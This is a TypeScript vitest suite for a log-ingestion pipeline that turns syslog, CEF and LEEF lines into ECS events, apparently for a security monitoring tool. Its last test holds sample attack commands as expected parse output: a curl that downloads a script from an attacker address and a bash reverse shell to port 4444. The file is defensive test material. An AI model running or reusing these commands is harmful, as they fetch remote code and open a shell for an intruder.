import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { SyslogInputConfig } from './inputs/syslog/config.js';
import type { DeadLetterDocument } from '../core/deadletter/index.js';
import { VigilError, isVigilError } from '../core/errors/index.js';
import type { EcsEvent } from '../core/event/index.js';
import { metrics } from '../core/telemetry/index.js';
import { createFramePublisher, type IngestFrame } from './frame-publisher.js';
import { MemoryPublisher } from '../test/support/memory-publisher.js';
import { counterValue } from '../test/support/metrics.js';

const NOW = new Date('2026-11-22T02:05:00.000Z');
let seq = 0;

function setup(overrides: Partial<SyslogInputConfig> = {}, workers = 0) {
  const input: SyslogInputConfig = {
    id: `pipeline-test-${++seq}`,
    type: 'syslog',
    parseWorkers: 0,
    protocol: 'tcp',
    host: '127.0.0.1',
    port: 0,
    maxMessageBytes: 65536,
    timezone: 'UTC',
    keepOriginal: true,
    maxConnections: 1024,
    maxConnectionsPerPeer: 64,
    idleTimeoutSeconds: 300,
    ...overrides,
  };
  const publisher = new MemoryPublisher();
  const pipeline = createFramePublisher({
    input,
    publisher,
    eventsTopic: 'test.vigil.events',
    deadletterTopic: 'test.vigil.deadletter',
    now: () => NOW,
    workers,
  });
  return { input, publisher, pipeline, labels: { kind: 'input', id: input.id } };
}

const frame = (raw: string, peer = '192.0.2.50'): IngestFrame => ({ raw: Buffer.from(raw), peer });

describe('createFramePublisher', () => {
  it('publishes the same events and dead letters from a worker thread as from the main thread', async () => {
    // 40 frames: at or above the batch size that goes to a worker.
    const batch = (): IngestFrame[] => [
      ...Array.from({ length: 38 }, (_, i) =>
        frame(`<165>1 2026-11-20T09:18:${String(i).padStart(2, '0')}Z db-${i % 3} app - - - line ${i}`),
      ),
      frame('not syslog, no PRI'),
      { raw: Buffer.from('<13>xx'), peer: '192.0.2.9', error: new VigilError('FRAME_TOO_LARGE', 'line longer than maxMessageBytes (10)') },
    ];
    const main = setup();
    const worker = setup({}, 1);
    try {
      await main.pipeline.handle(batch());
      await worker.pipeline.handle(batch());
      const events = (p: MemoryPublisher) => p.records('test.vigil.events').map((r) => [r.key, String(r.value), r.timestamp]);
      // Ids and input names differ per pipeline: compare the events without them.
      const strip = (p: MemoryPublisher) => events(p).map(([k, v, t]) => [k, String(v).replace(/"vigil":\{.*?\}/, ''), t]);
      expect(events(worker.publisher)).toHaveLength(38);
      expect(strip(worker.publisher)).toEqual(strip(main.publisher));
      const letters = (p: MemoryPublisher) =>
        p.values<DeadLetterDocument>('test.vigil.deadletter').map((d) => [d.code, d.reason, d.raw.data, d.peer]);
      expect(letters(worker.publisher)).toHaveLength(2);
      expect(letters(worker.publisher).sort()).toEqual(letters(main.publisher).sort());
      expect(await counterValue(metrics.errors, { ...worker.labels, code: 'FRAME_TOO_LARGE' })).toBe(1);
    } finally {
      await worker.pipeline.close();
    }
  });

  it('publishes events keyed by host.name and dead-letters failures with raw bytes and reason', async () => {
    const { publisher, pipeline, labels, input } = setup();
    await pipeline.handle([
      frame('<38>Nov 20 09:14:03 web-01 sshd[2231]: Failed password for root from 203.0.113.45 port 52144 ssh2'),
      frame('<165>1 2026-11-20T09:18:00Z db-01 app - - - hello'),
      frame('Nov 20 09:14:03 web-01 sshd[1]: no PRI here'),
      {
        raw: Buffer.from('<13>xxxx'),
        peer: '192.0.2.51',
        error: new VigilError('FRAME_TOO_LARGE', 'line longer than maxMessageBytes (10)'),
      },
    ]);

    const events = publisher.records('test.vigil.events');
    expect(events.map((r) => r.key)).toEqual(['web-01', 'db-01']);
    expect(events.every((r) => r.timestamp === NOW.getTime())).toBe(true);
    const [first] = publisher.values<EcsEvent>('test.vigil.events');
    expect(first).toMatchObject({
      '@timestamp': '2026-11-20T09:14:03.000Z',
      event: { kind: 'event', action: 'ssh_login', outcome: 'failure', created: NOW.toISOString() },
      user: { name: 'root' },
      source: { ip: '203.0.113.45', port: 52144 },
      vigil: { input: input.id, received_at: NOW.toISOString(), parse_status: 'ok', peer: '192.0.2.50' },
    });

    const letters = publisher.values<DeadLetterDocument>('test.vigil.deadletter');
    expect(letters).toEqual([
      expect.objectContaining({
        stage: 'ingest',
        component: input.id,
        code: 'PARSE_SYSLOG',
        reason: 'no PRI: a syslog message starts with <PRI> (column 1)',
        raw: { encoding: 'utf8', data: 'Nov 20 09:14:03 web-01 sshd[1]: no PRI here' },
        peer: '192.0.2.50',
      }),
      expect.objectContaining({
        code: 'FRAME_TOO_LARGE',
        reason: 'line longer than maxMessageBytes (10)',
        raw: { encoding: 'utf8', data: '<13>xxxx' },
        peer: '192.0.2.51',
      }),
    ]);

    expect(await counterValue(metrics.received, labels)).toBe(4);
    expect(await counterValue(metrics.sent, labels)).toBe(2);
    expect(await counterValue(metrics.errors, { ...labels, code: 'PARSE_SYSLOG' })).toBe(1);
    expect(await counterValue(metrics.errors, { ...labels, code: 'FRAME_TOO_LARGE' })).toBe(1);
  });

  it('keys by the peer when the message names no host', async () => {
    const { publisher, pipeline } = setup();
    await pipeline.handle([frame('<13>Nov 20 09:14:03 sshd[1]: x', '198.51.100.7')]);
    expect(publisher.records('test.vigil.events').map((r) => r.key)).toEqual(['198.51.100.7']);
  });

  it('resolves only after the publisher acknowledged', async () => {
    const { publisher, pipeline } = setup();
    const release = publisher.hold();
    let settled = false;
    const p = pipeline.handle([frame('<13>Nov 20 09:14:03 h a: x'), frame('garbage')]).then(() => (settled = true));
    await publisher.waitFor(() => publisher.pending === 2);
    await new Promise((r) => setTimeout(r, 20));
    expect(settled).toBe(false);
    expect(publisher.acked).toHaveLength(0);
    release();
    await p;
    expect(settled).toBe(true);
    expect(publisher.acked).toHaveLength(2);
  });

  it('rejects, and counts nothing as sent, when the publisher fails', async () => {
    const { publisher, pipeline, labels } = setup();
    publisher.failNext = new VigilError('SERVICE_UNAVAILABLE', 'kafka down');
    await expect(pipeline.handle([frame('<13>Nov 20 09:14:03 h a: x')])).rejects.toSatisfy((e) => isVigilError(e, 'SERVICE_UNAVAILABLE'));
    expect(await counterValue(metrics.sent, labels)).toBe(0);
  });

  it('does not publish an empty batch', async () => {
    const { publisher, pipeline } = setup();
    await pipeline.handle([]);
    expect(publisher.calls).toBe(0);
  });

  it('leaves event.original out when keepOriginal is false, and reads RFC 3164 in the configured zone', async () => {
    const { publisher, pipeline } = setup({ keepOriginal: false, timezone: 'America/New_York' });
    await pipeline.handle([frame('<13>Nov 20 10:00:00 h a: x')]);
    const [ev] = publisher.values<EcsEvent>('test.vigil.events');
    expect(ev?.event?.original).toBeUndefined();
    expect(ev?.['@timestamp']).toBe('2026-11-20T15:00:00.000Z');
  });

  it('reads bare and syslog-wrapped CEF and LEEF, and dead-letters a broken bare record', async () => {
    const { publisher, pipeline } = setup();
    await pipeline.handle([
      frame('CEF:0|Acme|FW|1|deny|Denied|7|src=203.0.113.45 dst=10.0.0.5 dpt=22 act=deny'),
      frame('<134>Nov 20 09:14:03 fw-02 CEF:0|Acme|FW|1|deny|Denied|7|src=203.0.113.46'),
      frame('LEEF:2.0|Acme|IdP|1|login|^|usrName=bob^src=198.51.100.23^isLoginEvent=true'),
      frame('CEF:0|only|three'),
      frame('{"not":"syslog"}'),
    ]);
    const events = publisher.values<EcsEvent>('test.vigil.events');
    expect(events.map((e) => [e.observer?.product, e.source?.ip, e.vigil?.parse_status])).toEqual([
      ['FW', '203.0.113.45', 'ok'],
      ['FW', '203.0.113.46', 'ok'],
      ['IdP', '198.51.100.23', 'ok'],
    ]);
    expect(publisher.records('test.vigil.events').map((r) => r.key)).toEqual(['192.0.2.50', 'fw-02', '192.0.2.50']);
    const letters = publisher.values<DeadLetterDocument>('test.vigil.deadletter');
    expect(letters.map((l) => l.code)).toEqual(['PARSE_CEF', 'PARSE_SYSLOG']);
  });

  it('keeps a syslog line whose CEF payload is broken, marked partial with error.message', async () => {
    const { publisher, pipeline } = setup();
    await pipeline.handle([frame('<134>Nov 20 09:14:03 fw-02 CEF:0|Acme|FW')]);
    const [e] = publisher.values<EcsEvent>('test.vigil.events');
    expect(e?.vigil?.parse_status).toBe('partial');
    expect(e?.error).toEqual({ message: 'CEF header has 2 of 7 fields', code: 'PARSE_CEF' });
  });

  it.each([
    ['on the main thread', 0],
    ['on a frame worker', 1],
  ])(
    'publishes ECS on the events topic even for an input configured with outputSchema: ocsf (rules read ECS only), %s',
    async (_where, workers) => {
      const { publisher, pipeline } = setup({ outputSchema: 'ocsf' }, workers);
      const line = '<38>Nov 20 09:14:03 web-01 sshd[2231]: Failed password for root from 203.0.113.45 port 52144 ssh2';
      // 40 frames: a batch large enough to go to the worker when there is one.
      await pipeline.handle(Array.from({ length: 40 }, () => frame(line)));
      await pipeline.close();
      const [e] = publisher.values<Record<string, unknown>>('test.vigil.events');
      expect(publisher.values('test.vigil.events')).toHaveLength(40);
      expect(e).toMatchObject({ event: { outcome: 'failure' }, user: { name: 'root' }, source: { ip: '203.0.113.45' } });
      expect(e).not.toHaveProperty('class_uid');
      expect(publisher.records('test.vigil.events')[0]?.key).toBe('web-01');
    },
  );

  it('refuses an unknown time zone when created', () => {
    expect(() => setup({ timezone: 'Mars/Olympus' })).toThrow(VigilError);
  });

  it('tells the story of rules/samples/linux-attack.log', async () => {
    const { publisher, pipeline } = setup();
    const lines = readFileSync(new URL('../rules/samples/linux-attack.log', import.meta.url), 'utf8')
      .split('\n')
      .filter((l) => l !== '');
    expect(lines.length).toBeGreaterThanOrEqual(38);
    expect(new Set(lines).size).toBe(lines.length);
    await pipeline.handle(lines.map((l) => frame(l)));

    const events = publisher.values<EcsEvent>('test.vigil.events');
    const letters = publisher.values<DeadLetterDocument>('test.vigil.deadletter');
    expect(letters.map((l) => l.code)).toEqual(['PARSE_SYSLOG', 'PARSE_SYSLOG']);
    expect(events).toHaveLength(lines.length - 2);
    expect(events.every((e) => e.vigil?.parse_status === 'ok')).toBe(true);
    expect(events.every((e) => e['@timestamp'] < '2026-11-21')).toBe(true);
    expect(events.filter((e) => e.log?.syslog?.version === '1')).toHaveLength(2);

    // Attempts only: sshd's "Invalid user" notice precedes the "Failed …" line of the same attempt.
    const failures = events.filter(
      (e) => e.event?.action === 'ssh_login' && e.event.outcome === 'failure' && e.message?.startsWith('Failed ') === true,
    );
    expect(failures.length).toBeGreaterThanOrEqual(20);
    expect(new Set(failures.map((e) => e.source?.ip))).toEqual(new Set(['203.0.113.45']));
    expect(new Set(failures.map((e) => e.user?.name))).toEqual(new Set(['admin', 'root', 'oracle', 'test']));
    expect(failures.every((e) => e.host?.name === 'web-01')).toBe(true);

    const accepted = events.filter((e) => e.event?.action === 'ssh_login' && e.event.outcome === 'success');
    expect(accepted.map((e) => [e.user?.name, e.source?.ip])).toEqual([
      ['ops', '198.51.100.23'],
      ['deploy', '203.0.113.45'],
    ]);

    const sudo = events.filter((e) => e.event?.action === 'sudo');
    expect(sudo.map((e) => [e.user?.name, e.user?.effective?.name])).toEqual([
      ['deploy', 'root'],
      ['deploy', 'root'],
      ['deploy', 'root'],
    ]);
    expect(sudo.map((e) => e.process?.command_line)).toEqual([
      '/bin/bash',
      '/usr/bin/curl -s http://203.0.113.45/x.sh -o /tmp/.x.sh',
      '/bin/bash -c bash -i >& /dev/tcp/203.0.113.45/4444 0>&1',
    ]);
    // The story runs forward in time: the success comes after the last failure.
    const lastFailure = failures
      .map((e) => e['@timestamp'])
      .sort()
      .at(-1) as string;
    expect(accepted[1]?.['@timestamp'] > lastFailure).toBe(true);
  });
});
